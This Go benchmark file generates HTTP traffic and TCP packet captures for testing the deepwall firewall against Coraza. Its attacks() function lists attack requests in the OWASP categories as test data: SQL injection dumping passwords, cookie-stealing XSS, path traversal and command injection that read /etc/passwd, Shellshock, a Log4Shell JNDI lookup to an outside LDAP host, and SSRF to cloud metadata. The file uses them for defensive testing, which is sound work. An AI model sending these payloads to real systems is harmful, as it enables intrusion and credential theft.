package bench

import (
	"bytes"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"strconv"
	"strings"
	"time"

	"github.com/deepwall/deepwall/dataplane"
	"github.com/deepwall/deepwall/dpi/pcapio"
	"github.com/deepwall/deepwall/internal/testnet"
)

// header is one HTTP header field.
type header struct{ Name, Value string }

// exchange is one HTTP/1.1 request and its response, kept structured so
// that every system under test sees the same messages: deepwall as frames
// of a capture or bytes on a socket, Coraza as a transaction.
type exchange struct {
	Method, Target, Host string
	Headers              []header // request headers other than Host and Content-Length
	Body                 []byte
	Status               int
	RespHeaders          []header // response headers other than Content-Length
	RespBody             []byte
	// Attack names the attack category ("sqli", "xss", ...); empty for an
	// ordinary request.
	Attack string
}

// request renders the request as sent on the wire.
func (x *exchange) request() []byte {
	var b bytes.Buffer
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\nHost: %s\r\n", x.Method, x.Target, x.Host)
	for _, h := range x.Headers {
		b.WriteString(h.Name + ": " + h.Value + "\r\n")
	}
	if len(x.Body) > 0 {
		b.WriteString("Content-Length: " + strconv.Itoa(len(x.Body)) + "\r\n")
	}
	b.WriteString("\r\n")
	b.Write(x.Body)
	return b.Bytes()
}

// response renders the response as sent on the wire.
func (x *exchange) response() []byte {
	var b bytes.Buffer
	fmt.Fprintf(&b, "HTTP/1.1 %d %s\r\n", x.Status, statusText(x.Status))
	for _, h := range x.RespHeaders {
		b.WriteString(h.Name + ": " + h.Value + "\r\n")
	}
	b.WriteString("Content-Length: " + strconv.Itoa(len(x.RespBody)) + "\r\n\r\n")
	b.Write(x.RespBody)
	return b.Bytes()
}

func statusText(code int) string {
	switch code {
	case 200:
		return "OK"
	case 404:
		return "Not Found"
	default:
		return "Status"
	}
}

// Words of the generated text: ordinary shop and site vocabulary, lower
// case, so that no generated text looks like a secret, an attack or a
// number a DLP rule would report.
var textWords = strings.Fields(`the quick brown fox jumps over lazy dog order shipping delivery customer
	product review rating price discount cart checkout account profile settings search results page
	category featured popular new arrivals sale limited offer free returns warranty support contact
	about careers press privacy terms cookies newsletter subscribe email password login logout help
	store garden kitchen outdoor travel books music games sports toys beauty health office tools`)

var (
	benignPaths = []string{"/", "/index.html", "/products/12345", "/api/v1/cart", "/static/app.3f9a2c.js",
		"/search", "/account/orders", "/blog/2024/10/how-we-ship", "/images/logo.svg", "/api/v1/products"}
	benignQueries = []string{"", "", "", "q=running+shoes&sort=price_asc&page=3", "id=8812&ref=newsletter",
		"category=books&filter=in_stock%3Dtrue&lang=en-US", "utm_source=google&utm_medium=cpc&utm_campaign=spring_sale"}
)

// traffic generates reproducible HTTP exchanges: browser-like requests
// (query strings, cookies, form and JSON posts) and HTML or JSON responses.
type traffic struct {
	r    *rand.Rand
	Host string
}

// newTraffic returns a generator; the same seed gives the same exchanges.
func newTraffic(seed uint64) *traffic {
	return &traffic{r: rand.New(rand.NewPCG(seed, seed^0x5eed)), Host: "shop.example.com"}
}

// request returns an ordinary request without a response.
func (t *traffic) request() *exchange {
	r := t.r
	x := &exchange{Method: "GET", Host: t.Host, Target: benignPaths[r.IntN(len(benignPaths))]}
	if q := benignQueries[r.IntN(len(benignQueries))]; q != "" {
		x.Target += "?" + q
	}
	x.Headers = []header{
		{"User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"},
		{"Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"},
		{"Accept-Language", "en-US,en;q=0.9,de;q=0.8"},
		{"Accept-Encoding", "gzip, deflate, br"},
		{"Cookie", fmt.Sprintf("session=%016x; _ga=GA1.2.1098765432.1712345678; prefs=theme%%3Ddark%%26lang%%3Den", r.Uint64())},
		{"Referer", "https://" + t.Host + "/"},
		{"Connection", "keep-alive"},
	}
	switch r.IntN(8) {
	case 0:
		x.Method = "POST"
		x.Body = []byte("email=jane.doe%40example.com&name=Jane+Doe&message=Where+is+my+order%3F+It+was+due+on+Monday.&subscribe=on")
		x.Headers = append(x.Headers, header{"Content-Type", "application/x-www-form-urlencoded"})
	case 1:
		x.Method = "POST"
		x.Body = []byte(`{"items":[{"sku":"A-1234","qty":2},{"sku":"B-9","qty":1}],"coupon":"SPRING24","note":"leave at the door"}`)
		x.Headers = append(x.Headers, header{"Content-Type", "application/json"})
	}
	return x
}

// exchange returns an ordinary request with a response whose body is one
// of 1, 4, 8, 16 or 48 KiB of HTML or JSON.
func (t *traffic) exchange() *exchange {
	x := t.request()
	size := []int{1 << 10, 4 << 10, 8 << 10, 16 << 10, 48 << 10}[t.r.IntN(5)]
	t.respond(x, size)
	return x
}

func (t *traffic) respond(x *exchange, size int) {
	ct := "text/html; charset=utf-8"
	if t.r.IntN(3) == 0 {
		ct = "application/json"
		x.RespBody = t.json(size)
	} else {
		x.RespBody = t.html(size)
	}
	x.Status = 200
	x.RespHeaders = []header{
		{"Server", "nginx/1.25.3"},
		{"Date", "Thu, 14 Mar 2026 15:09:26 GMT"},
		{"Content-Type", ct},
		{"Connection", "keep-alive"},
		{"Cache-Control", "private, max-age=0"},
		{"ETag", fmt.Sprintf("%q", fmt.Sprintf("%x", t.r.Uint64()))},
	}
}

// html returns about size bytes of an HTML page.
func (t *traffic) html(size int) []byte {
	r := t.r
	var b bytes.Buffer
	b.WriteString("<!doctype html><html><head><title>Shop</title><link rel=stylesheet href=/static/site.css></head><body>\n")
	for b.Len() < size {
		b.WriteString(`<p class="item">`)
		for range 12 + r.IntN(12) {
			b.WriteString(textWords[r.IntN(len(textWords))])
			b.WriteByte(' ')
		}
		fmt.Fprintf(&b, "<a href=\"/products/%d\">more</a></p>\n", r.IntN(100000))
	}
	b.WriteString("</body></html>\n")
	return b.Bytes()
}

// json returns about size bytes of a JSON search result.
func (t *traffic) json(size int) []byte {
	r := t.r
	var b bytes.Buffer
	b.WriteString(`{"results":[`)
	for b.Len() < size {
		fmt.Fprintf(&b, `{"id":%d,"name":"%s %s","price":%d.%02d,"rating":%d.%d,"in_stock":true},`,
			r.IntN(100000), textWords[r.IntN(len(textWords))], textWords[r.IntN(len(textWords))],
			r.IntN(500), r.IntN(100), r.IntN(5), r.IntN(10))
	}
	b.WriteString(`{}]}`)
	return b.Bytes()
}

// attacks returns one request per attack the default pack blocks, in the
// categories of the OWASP Core Rule Set, each with a small response (what
// a vulnerable application would answer).
func (t *traffic) attacks() []*exchange {
	get := func(cat, target string, extra ...header) *exchange {
		x := t.request()
		x.Method, x.Target, x.Body, x.Attack = "GET", target, nil, cat
		x.Headers = x.Headers[:5:5]
	next:
		for _, h := range extra {
			for i := range x.Headers {
				if strings.EqualFold(x.Headers[i].Name, h.Name) {
					x.Headers[i] = h
					continue next
				}
			}
			x.Headers = append(x.Headers, h)
		}
		return x
	}
	post := func(cat, target, ct, body string) *exchange {
		x := get(cat, target, header{"Content-Type", ct})
		x.Method, x.Body = "POST", []byte(body)
		return x
	}
	xs := []*exchange{
		get("sqli", "/search?q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--"),
		get("sqli", "/products?id=1%27%20OR%20%271%27%3D%271"),
		post("sqli", "/api/login", "application/json", `{"user":"admin' --","password":"x"}`),
		get("xss", "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
		post("xss", "/comment", "application/x-www-form-urlencoded", "name=bob&comment=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E"),
		get("lfi", "/static/..%2f..%2f..%2f..%2fetc%2fpasswd"),
		get("lfi", "/.git/config"),
		get("rce", "/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd"),
		get("rce", "/cgi-bin/status", header{"User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'"}),
		get("java", "/", header{"X-Api-Version", "${jndi:ldap://203.0.113.9:1389/a}"}),
		get("scanner", "/", header{"User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"}),
		get("ssrf", "/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
	}
	for _, x := range xs {
		x.Status = 200
		x.RespHeaders = []header{{"Content-Type", "text/html; charset=utf-8"}}
		x.RespBody = []byte("<html><body>ok</body></html>\n")
	}
	return xs
}

// capture is generated traffic as Ethernet frames, ready for the engine
// (in memory) or for other tools (written as pcap).
type capture struct {
	Frames []capFrame
	// Exchanges are the messages the frames carry, in the order they were
	// generated; Conns is the number of TCP connections.
	Exchanges []*exchange
	Conns     int
	// FrameBytes and PayloadBytes total the frames and their TCP payload.
	FrameBytes, PayloadBytes int64
	// Streams are the payload bytes of each direction of each connection
	// in order (index 2*conn for the client's, 2*conn+1 for the server's).
	Streams [][]byte
	// Start and Span are the first frame's time and the capture's length.
	Start time.Time
	Span  time.Duration
}

// capFrame is one frame of a capture.
type capFrame struct {
	Data     []byte
	TS       time.Time
	ToServer bool
}

// ingress is the deepwall port the frame would arrive on inline: the
// client sits behind the inner port.
func (f *capFrame) ingress() dataplane.Side {
	if f.ToServer {
		return dataplane.Inner
	}
	return dataplane.Outer
}

// captureMSS is the TCP payload per full segment (a 1500-byte MTU without
// TCP options).
const captureMSS = 1460

// captureStart is the time of a generated capture's first frame.
var captureStart = time.Date(2026, 1, 1, 12, 0, 0, 0, time.UTC)

// buildCapture lays out conns keep-alive connections carrying the
// exchanges round-robin (exchange i on connection i%conns), all
// connections open at once as on a busy server: handshakes, then the
// exchanges interleaved across connections, MSS-sized segments, a delayed
// ACK every two segments, then FIN handshakes.
func buildCapture(exchanges []*exchange, conns int) (*capture, error) {
	c := &capture{Exchanges: exchanges, Conns: conns, Start: captureStart, Streams: make([][]byte, 2*conns)}
	ts := captureStart
	type conn struct {
		cli, srv   netip.AddrPort
		cseq, sseq uint32
	}
	cs := make([]*conn, conns)
	emit := func(cn *conn, toServer bool, flags uint8, payload []byte) error {
		spec := testnet.FrameSpec{SrcMAC: testnet.MACA, DstMAC: testnet.MACB, Src: cn.cli, Dst: cn.srv, Proto: testnet.ProtoTCP,
			Flags: flags, Seq: cn.cseq, Ack: cn.sseq, Payload: payload}
		if !toServer {
			spec.SrcMAC, spec.DstMAC, spec.Src, spec.Dst, spec.Seq, spec.Ack = testnet.MACB, testnet.MACA, cn.srv, cn.cli, cn.sseq, cn.cseq
		}
		if flags&testnet.ACK == 0 {
			spec.Ack = 0
		}
		data, err := testnet.BuildFrame(spec)
		if err != nil {
			return fmt.Errorf("build frame: %w", err)
		}
		c.Frames = append(c.Frames, capFrame{Data: data, TS: ts, ToServer: toServer})
		c.FrameBytes += int64(len(data))
		c.PayloadBytes += int64(len(payload))
		ts = ts.Add(10 * time.Microsecond)
		n := uint32(len(payload))
		if flags&(testnet.SYN|testnet.FIN) != 0 {
			n++
		}
		if toServer {
			cn.cseq += n
		} else {
			cn.sseq += n
		}
		return nil
	}
	send := func(i int, toServer bool, data []byte) error {
		cn := cs[i]
		idx := 2 * i
		if !toServer {
			idx++
		}
		c.Streams[idx] = append(c.Streams[idx], data...)
		for k := 0; len(data) > 0; k++ {
			n := min(len(data), captureMSS)
			if err := emit(cn, toServer, testnet.PSH|testnet.ACK, data[:n]); err != nil {
				return err
			}
			data = data[n:]
			if k%2 == 1 || len(data) == 0 {
				if err := emit(cn, !toServer, testnet.ACK, nil); err != nil {
					return err
				}
			}
		}
		return nil
	}
	for i := range cs {
		cs[i] = &conn{
			cli:  netip.AddrPortFrom(netip.AddrFrom4([4]byte{198, 18, byte(i / 250), byte(1 + i%250)}), uint16(30000+i%30000)),
			srv:  netip.AddrPortFrom(netip.AddrFrom4([4]byte{198, 19, 0, 1}), 80),
			cseq: uint32(1000 + 7919*i), sseq: uint32(5000 + 104729*i),
		}
		cn := cs[i]
		if err := emit(cn, true, testnet.SYN, nil); err != nil {
			return nil, err
		}
		if err := emit(cn, false, testnet.SYN|testnet.ACK, nil); err != nil {
			return nil, err
		}
		if err := emit(cn, true, testnet.ACK, nil); err != nil {
			return nil, err
		}
	}
	for j, x := range exchanges {
		i := j % conns
		if err := send(i, true, x.request()); err != nil {
			return nil, err
		}
		if err := send(i, false, x.response()); err != nil {
			return nil, err
		}
	}
	for _, cn := range cs {
		for _, step := range []struct {
			toServer bool
			flags    uint8
		}{{true, testnet.FIN | testnet.ACK}, {false, testnet.FIN | testnet.ACK}, {true, testnet.ACK}} {
			if err := emit(cn, step.toServer, step.flags, nil); err != nil {
				return nil, err
			}
		}
	}
	c.Span = ts.Sub(captureStart)
	return c, nil
}

// writePcap writes the capture to path.
func (c *capture) writePcap(path string) error {
	w, err := pcapio.Create(path)
	if err != nil {
		return err
	}
	for i := range c.Frames {
		if err := w.Write(c.Frames[i].TS, c.Frames[i].Data); err != nil {
			w.Close()
			return err
		}
	}
	return w.Close()
}

// httpCapture generates exchanges ordinary exchanges over conns
// connections from seed.
func httpCapture(seed uint64, conns, exchanges int) (*capture, error) {
	t := newTraffic(seed)
	xs := make([]*exchange, exchanges)
	for i := range xs {
		xs[i] = t.exchange()
	}
	return buildCapture(xs, conns)
}
